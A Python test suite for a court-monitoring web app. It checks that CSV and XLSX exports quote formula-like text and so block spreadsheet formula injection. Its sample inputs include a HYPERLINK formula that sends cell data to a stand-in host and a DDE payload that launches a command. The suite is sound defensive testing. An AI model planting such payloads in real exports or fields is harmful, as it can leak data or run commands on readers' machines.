"""Can text typed into Court Monitor become a live formula in a spreadsheet a manager or the public
opens ("CSV injection")? Every CSV and XLSX writer goes through one cell helper; numbers stay numbers."""
import ast
import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

import monitor
from monitor.security.spreadsheets import FORMULA_STARTS, CsvWriter, StreamedWorkbook, append_row, new_workbook
from monitor.services import release_files
from monitor.services import releases as release_service
from tests.statistics.conftest import add_hearing  # noqa: F401  (fixture)

FORMULA = '=HYPERLINK("http://x.example/?c="&B2,"Open case file")'
DANGEROUS = [FORMULA, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"[+-]?[\d.]+")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula_in_csv(text: str, expected: str) -> None:
    cells = csv_cells(text)
    assert "'" + expected in cells, "the text is kept, behind a quote"
    bare = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
    assert bare == []


def assert_no_formula_in_xlsx(content: bytes, expected: str) -> None:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell for cell in cells if cell.value == expected]
    assert texts and all(cell.data_type == "s" and cell.quotePrefix for cell in texts)


def test_formula_text_is_neutralised_and_numbers_stay_numbers():
    """The helper alone: formula-like text is quoted; numbers (negative too, or written as text) are not."""
    buffer = io.StringIO()
    values = [*DANGEROUS, -3, -2.5, 0, "-3", "+2.5", "1e-3", "Kandal", "", None, date(2025, 1, 6)]
    CsvWriter(buffer).writerow(values)
    written = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert written[:len(DANGEROUS)] == ["'" + text for text in DANGEROUS]
    assert written[len(DANGEROUS):] == ["-3", "-2.5", "0", "-3", "+2.5", "1e-3", "Kandal", "", "", "2025-01-06"]

    workbook = new_workbook()
    append_row(workbook.create_sheet("s"), values)
    stream = io.BytesIO()
    workbook.save(stream)
    row = next(load_workbook(io.BytesIO(stream.getvalue()))["s"].iter_rows())
    assert [cell.value for cell in row[:len(DANGEROUS)]] == DANGEROUS
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in row[:len(DANGEROUS)])
    assert [(cell.value, cell.data_type) for cell in row[len(DANGEROUS):len(DANGEROUS) + 3]] == [(-3, "n"), (-2.5, "n"), (0, "n")]


def test_no_module_writes_spreadsheets_without_the_helper():
    """A writer added later cannot forget: only monitor/security/spreadsheets.py may import csv or openpyxl."""
    package = Path(monitor.__file__).parent
    helper = package / "security" / "spreadsheets.py"
    offenders = []
    for path in package.rglob("*.py"):
        if path == helper:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else \
                [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            offenders += [f"{path.relative_to(package)}: {name}" for name in names if name.split(".")[0] in ("csv", "openpyxl")]
    assert offenders == [], "write cells with monitor.security.spreadsheets (CsvWriter, append_row)"


@pytest.fixture
def formula_everywhere(add_hearing, create_court, create_user):  # noqa: F811
    """A court whose name and a case reference are formulas; approved hearings in 2025-Q1."""
    court = create_court("formula", FORMULA)
    for day in range(6):
        add_hearing(court, date(2025, 1, 6 + day), "approved",
                    {"stage": "first_instance", "hearing_open": "yes", "case_reference": FORMULA},
                    [{"gender": "male", "age_at_offence": 30, "represented_by_lawyer": "yes"}])
    return create_user("manager", username="manager-formula")


def test_raw_export_csv_and_xlsx_keep_case_references_as_text(formula_everywhere, client_for):
    office = client_for(formula_everywhere)
    zipped = office.get("/review/exports?download=1&format=csv&states=approved")
    assert zipped.status_code == 200
    hearings = zipfile.ZipFile(io.BytesIO(zipped.get_data())).read("hearings.csv").decode("utf-8-sig")
    assert_no_formula_in_csv(hearings, FORMULA)
    workbook = office.get("/review/exports?download=1&format=xlsx&states=approved")
    assert workbook.status_code == 200
    assert_no_formula_in_xlsx(workbook.get_data(), FORMULA)


def test_statistics_downloads_and_release_files_keep_court_names_as_text(formula_everywhere, client_for, app):
    office = client_for(formula_everywhere)
    statistics_csv = office.get("/statistics/download.csv?period=2025-Q1")
    assert statistics_csv.status_code == 200
    assert_no_formula_in_csv(statistics_csv.get_data().decode("utf-8-sig"), FORMULA)
    assert_no_formula_in_xlsx(office.get("/statistics/download.xlsx?period=2025-Q1").get_data(), FORMULA)

    release = release_service.publish("2025-Q1")
    folder = release_files.release_folder(release.period_label, release.version)
    assert_no_formula_in_csv((folder / "statistics-2025-Q1-v1.csv").read_text(encoding="utf-8-sig"), FORMULA)
    assert_no_formula_in_xlsx((folder / "statistics-2025-Q1-v1.xlsx").read_bytes(), FORMULA)


def test_audit_csv_keeps_a_formula_typed_as_username_as_text(client, create_user, login):
    for _ in range(5):  # failed sign-ins, then the lock-out whose target is the typed username
        client.post("/login", data={"username": FORMULA, "password": "guess guess"})
    login(create_user("admin"))
    audit_csv = client.get("/admin/audit.csv")
    assert audit_csv.status_code == 200
    assert_no_formula_in_csv(audit_csv.get_data(as_text=True), FORMULA.lower())


def _modules_importing(names: tuple[str, ...]) -> list[str]:
    package = Path(monitor.__file__).parent
    helper = package / "security" / "spreadsheets.py"
    found = []
    for path in package.rglob("*.py"):
        if path == helper:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            imported = [alias.name for alias in node.names] if isinstance(node, ast.Import) else \
                [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            found += [f"{path.relative_to(package)}: {name}" for name in imported if name.split(".")[0] in names]
    return found


def test_the_streamed_xlsx_writer_is_the_helper_too(tmp_path):
    """The raw export's XLSX (XlsxWriter, constant memory): only the helper imports XlsxWriter, and
    its sheets quote formula-like text, keep numbers numbers, and never turn text into a link."""
    assert _modules_importing(("xlsxwriter",)) == [], "write the raw export with monitor.security.spreadsheets.StreamedWorkbook"
    values = [*DANGEROUS, -3, -2.5, 0, "-3", "+2.5", "Kandal", "", None, True, date(2025, 1, 6), "https://x.example/a"]
    path = tmp_path / "streamed.xlsx"
    with StreamedWorkbook(path) as workbook:
        sheet = workbook.add_sheet("s")
        sheet.append_row(["header", FORMULA], bold=True)
        sheet.append_row(values)

    loaded = load_workbook(path)
    header, row = loaded["s"].iter_rows()
    assert [cell.font.b for cell in header[:2]] == [True, True] and header[1].quotePrefix and header[1].data_type == "s"
    # XlsxWriter writes a carriage return as Excel's escape _x000D_, which Excel reads back (openpyxl does not).
    assert [cell.value.replace("_x000D_", "\r") for cell in row[:len(DANGEROUS)]] == DANGEROUS
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in row[:len(DANGEROUS)])
    rest = [(cell.value, cell.data_type, cell.quotePrefix) for cell in row[len(DANGEROUS):]]
    assert rest == [(-3, "n", False), (-2.5, "n", False), (0, "n", False), ("-3", "s", False), ("+2.5", "s", False),
                    ("Kandal", "s", False), (None, "n", False), (None, "n", False), (True, "b", False),
                    ("2025-01-06", "s", False), ("https://x.example/a", "s", False)]
    assert loaded["s"]._hyperlinks == []
